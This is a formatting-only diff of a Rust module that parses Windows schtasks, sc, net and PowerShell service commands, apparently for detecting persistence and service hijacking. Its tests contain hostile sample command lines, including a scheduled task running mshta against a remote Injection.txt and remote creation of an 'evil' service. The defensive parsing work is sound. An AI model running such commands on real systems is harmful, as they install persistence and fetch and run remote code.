@@ -62,7 +62,8 @@ pub(crate) fn parse_schtasks_create(args: &[String]) -> Option<TaskCreate> {
     let schedule = switch_value(rest, "sc");
     let modifier = switch_value(rest, "mo");
     let start_time = switch_value(rest, "st");
-    let trigger = schedule.map(|sc| describe_schedule(&sc, modifier.as_deref(), start_time.as_deref()));
+    let trigger =
+        schedule.map(|sc| describe_schedule(&sc, modifier.as_deref(), start_time.as_deref()));
     Some(TaskCreate {
         name,
         command,
@@ -99,13 +100,27 @@ fn describe_schedule(schedule: &str, modifier: Option<&str>, start_time: Option<
 /// What a command does to a service.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(crate) enum ServiceAction {
-    Create { name: String, image: Option<String> },
+    Create {
+        name: String,
+        image: Option<String>,
+    },
     /// `sc config` that changes the binary (a hijack); other `sc config` changes are `Open`.
-    Reconfigure { name: String, image: String },
-    Open { name: String },
-    Start { name: String },
-    Stop { name: String },
-    Delete { name: String },
+    Reconfigure {
+        name: String,
+        image: String,
+    },
+    Open {
+        name: String,
+    },
+    Start {
+        name: String,
+    },
+    Stop {
+        name: String,
+    },
+    Delete {
+        name: String,
+    },
 }
 
 pub(crate) fn parse_service_action(args: &[String]) -> Option<ServiceAction> {
@@ -197,7 +212,8 @@ fn ps_param(args: &[String], names: &[&str]) -> Option<String> {
     let pos = args
         .iter()
         .position(|a| names.iter().any(|n| a.eq_ignore_ascii_case(n)))?;
-    args.get(pos + 1).map(|v| v.trim_end_matches(';').to_string())
+    args.get(pos + 1)
+        .map(|v| v.trim_end_matches(';').to_string())
 }
 
 /// The destination of a `bitsadmin /transfer … <url> <local file>` job.
@@ -268,8 +284,18 @@ mod tests {
     #[test]
     fn splits_quoted_arguments() {
         assert_eq!(
-            split_args(r#""C:\Windows\System32\schtasks.exe" /Create /TN X /TR "mshta.exe https://a/b" /F "#),
-            vec![r"C:\Windows\System32\schtasks.exe", "/Create", "/TN", "X", "/TR", "mshta.exe https://a/b", "/F"]
+            split_args(
+                r#""C:\Windows\System32\schtasks.exe" /Create /TN X /TR "mshta.exe https://a/b" /F "#
+            ),
+            vec![
+                r"C:\Windows\System32\schtasks.exe",
+                "/Create",
+                "/TN",
+                "X",
+                "/TR",
+                "mshta.exe https://a/b",
+                "/F"
+            ]
         );
         assert!(split_args("   ").is_empty());
         assert_eq!(split_args(r#"a "" b"#), vec!["a", "", "b"]);
@@ -282,14 +308,20 @@ mod tests {
         ))
         .unwrap();
         assert_eq!(t.name, "MSOFFICE_");
-        assert_eq!(t.command.as_deref(), Some("mshta.exe https://hotelesms.com/Injection.txt"));
+        assert_eq!(
+            t.command.as_deref(),
+            Some("mshta.exe https://hotelesms.com/Injection.txt")
+        );
         assert_eq!(t.trigger.as_deref(), Some("every 60 minutes"));
         let x = parse_schtasks_create(&split_args(
             r#""C:\Windows\System32\cmd.exe"  /C schtasks /Create /f /XML C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp /TN DataUsageHandlers"#,
         ))
         .unwrap();
         assert_eq!(x.name, "DataUsageHandlers");
-        assert_eq!(x.xml_file.as_deref(), Some(r"C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp"));
+        assert_eq!(
+            x.xml_file.as_deref(),
+            Some(r"C:\Users\IEUser\AppData\Local\Temp\sduchxll.tmp")
+        );
         assert!(parse_schtasks_create(&split_args("schtasks /query /tn X")).is_none());
         assert!(parse_schtasks_create(&split_args("schtasks /create")).is_none());
     }
@@ -297,30 +329,47 @@ mod tests {
     #[test]
     fn service_commands() {
         assert_eq!(
-            parse_service_action(&split_args(r#"sc.exe \\host create evil binPath= "C:\x\evil.exe" start= auto"#)),
-            Some(ServiceAction::Create { name: "evil".into(), image: Some(r"C:\x\evil.exe".into()) })
+            parse_service_action(&split_args(
+                r#"sc.exe \\host create evil binPath= "C:\x\evil.exe" start= auto"#
+            )),
+            Some(ServiceAction::Create {
+                name: "evil".into(),
+                image: Some(r"C:\x\evil.exe".into())
+            })
         );
         assert_eq!(
             parse_service_action(&split_args("sc config BITS type= own")),
-            Some(ServiceAction::Open { name: "BITS".into() })
+            Some(ServiceAction::Open {
+                name: "BITS".into()
+            })
         );
         assert_eq!(
             parse_service_action(&split_args(r"sc config x binpath=C:\a.exe")),
-            Some(ServiceAction::Reconfigure { name: "x".into(), image: r"C:\a.exe".into() })
+            Some(ServiceAction::Reconfigure {
+                name: "x".into(),
+                image: r"C:\a.exe".into()
+            })
         );
         assert_eq!(
             parse_service_action(&split_args(r"C:\WINDOWS\system32\net1 start BITS")),
-            Some(ServiceAction::Start { name: "BITS".into() })
+            Some(ServiceAction::Start {
+                name: "BITS".into()
+            })
         );
         assert_eq!(
             parse_service_action(&split_args("net stop BITS /y")),
-            Some(ServiceAction::Stop { name: "BITS".into() })
+            Some(ServiceAction::Stop {
+                name: "BITS".into()
+            })
         );
         assert_eq!(
             parse_service_action(&split_args(
                 r#"powershell -c New-Service -Name "Upd" -BinaryPathName "C:\p\u.exe""#
             )),
-            Some(ServiceAction::Create { name: "Upd".into(), image: Some(r"C:\p\u.exe".into()) })
+            Some(ServiceAction::Create {
+                name: "Upd".into(),
+                image: Some(r"C:\p\u.exe".into())
+            })
         );
         assert_eq!(parse_service_action(&split_args("net user x /add")), None);
         assert_eq!(parse_service_action(&split_args("sc")), None);
